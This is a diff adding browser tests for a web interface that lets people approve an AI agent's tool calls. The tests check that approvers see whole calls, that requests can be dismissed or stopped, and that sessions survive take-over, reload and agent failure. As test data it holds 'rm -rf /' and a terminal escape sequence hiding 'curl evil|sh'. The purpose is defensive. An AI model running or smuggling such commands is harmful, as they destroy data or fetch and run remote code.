@@ -204,6 +204,84 @@ async function work(browser) {
   console.log("  a permission on a phone, a queue and Stop ok");
 }
 
+/** An agent that misbehaves, or asks more than it shows. */
+async function hostile(browser) {
+  const server = await start();
+  const context = await browser.newContext({ bypassCSP: true });
+  const page = await context.newPage();
+  const errors = errorsOf(page);
+  await begin(page, server.page);
+  // Whoever approves sees the whole call, with its control characters. Without options, the request can be dismissed.
+  await ask(page, "/blind");
+  await transcript(page).getByText("rm -rf /").waitFor({ ...WAIT, state: "attached" });
+  await transcript(page).getByText("ls \u241b]0;curl evil|sh\u2407").waitFor(WAIT);
+  await page.getByRole("button", { name: "Dismiss" }).click();
+  await transcript(page).getByText('blind: {"outcome":"cancelled"}').waitFor(WAIT);
+  // Two requests about one call are two requests.
+  await ask(page, "/twice");
+  await page.getByRole("button", { name: "Allow" }).nth(1).waitFor(WAIT);
+  await page.getByRole("button", { name: "Allow" }).first().click();
+  await page.getByRole("button", { name: "Allow" }).click();
+  await transcript(page).getByText("twice: selected selected").waitFor(WAIT);
+  // Stop answers what waits.
+  await ask(page, "/twice");
+  await page.getByRole("button", { name: "Allow" }).nth(1).waitFor(WAIT);
+  await page.getByRole("button", { name: "Stop" }).click();
+  await transcript(page).getByText("twice: cancelled cancelled").waitFor(WAIT);
+  await ask(page, "/odd");
+  await transcript(page).getByText("odd end").waitFor(WAIT);
+  for (const text of ["odd tool", "odd plan"]) await transcript(page).getByText(text).waitFor(WAIT);
+  await page.fill("#prompt", "/");
+  await page.getByRole("option", { name: "/fine" }).waitFor(WAIT);
+  assert.equal(await page.getByText("NaN").count(), 0);
+  await page.press("#prompt", "Escape");
+
+  // A page that may not take over says so, and watches on.
+  const other = await (await browser.newContext()).newPage();
+  const id = decodeURIComponent(page.url().match(/session=([^&]+)/)[1]);
+  await other.goto(`${server.page}&session=${encodeURIComponent(id)}`);
+  await state(other, "watching");
+  await other.getByRole("button", { name: "Take over" }).click();
+  await other.getByText(/another connection controls the session/).waitFor(WAIT);
+  await ask(page, "seen by both");
+  await transcript(other).getByText("You sent text: seen by both").waitFor(WAIT);
+  await state(other, "watching");
+  await other.context().close();
+
+  // A reload keeps the draft and what waits for the turn.
+  await ask(page, "/change it");
+  await page.getByRole("button", { name: "Allow" }).waitFor(WAIT);
+  await ask(page, "after the reload");
+  await page.fill("#prompt", "half a thought");
+  await page.reload();
+  await page.getByText("Next: after the reload").waitFor(WAIT);
+  assert.equal(await page.inputValue("#prompt"), "half a thought");
+  await page.getByRole("button", { name: "Allow" }).click();
+  await transcript(page).getByText("You sent text: after the reload").waitFor(WAIT);
+
+  // More than the server takes stays in the page.
+  const buffer = Buffer.alloc(8 << 20, "a");
+  await page.locator("#picker").setInputFiles(Array.from({ length: 5 }, (_, at) => ({ name: `${at}.txt`, mimeType: "text/plain", buffer })));
+  await page.locator("#files li").nth(4).waitFor(WAIT);
+  await page.locator("#picker").setInputFiles(Array.from({ length: 4 }, (_, at) => ({ name: `more${at}.txt`, mimeType: "text/plain", buffer })));
+  await page.locator("#files li").nth(8).waitFor(WAIT);
+  await page.press("#prompt", "Enter");
+  await page.getByText(/A prompt can have at most/).waitFor(WAIT);
+  assert.equal(await page.locator("#files li").count(), 9);
+  for (let at = 0; at < 9; at++) await page.locator("#files li button").first().click();
+
+  // The agent dies. Prompts come back, and the page says what has happened.
+  await ask(page, "/die");
+  await transcript(page).getByText(/The turn has failed: Agent exited/).waitFor(WAIT);
+  await ask(page, "into the void");
+  await transcript(page).getByText(/does not have this session any more/).waitFor(WAIT);
+  await state(page, "the session has ended");
+  assert.deepEqual(errors, []);
+  await context.close();
+  await server.stop();
+  console.log("  an agent that misbehaves ok");
+}
+
 /** Pictures, files and resources in a prompt. */
 async function files(browser) {
   const server = await start();
@@ -327,6 +405,14 @@ async function persons(browser) {
   await laptop.getByRole("button", { name: "Take over" }).click();
   await ask(laptop, "and the laptop again");
   await transcript(phone).getByText("You sent text: and the laptop again").waitFor(WAIT);
+  // A question moves to the page that takes over, and is there once.
+  await ask(laptop, "/change Once more");
+  await laptop.getByRole("button", { name: "Allow" }).waitFor(WAIT);
+  await phone.getByRole("button", { name: "Take over" }).click();
+  await phone.locator("#prompt").waitFor(WAIT);
+  await phone.getByRole("button", { name: "Allow" }).click();
+  await transcript(phone).getByText("The file is changed.").nth(1).waitFor(WAIT);
+  assert.equal(fs.readFileSync(server.file("greeting.txt"), "utf8"), "Once more\n");
   assert.deepEqual(errors, [[], []]);
   await one.close();
   // The laptop is closed: the phone can work in the session as soon as it is opened.
@@ -370,7 +456,7 @@ async function loads(browser) {
 
 async function main() {
   const browser = await chromium.launch({ executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium", args: [...ARGS, ...trust] });
-  const parts = { everything, work, files, cuts, links, persons, loads };
+  const parts = { everything, work, hostile, files, cuts, links, persons, loads };
   try {
     for (const [name, part] of Object.entries(parts)) if (!process.env.ONLY || process.env.ONLY.split(",").includes(name)) await part(browser);
   } finally {
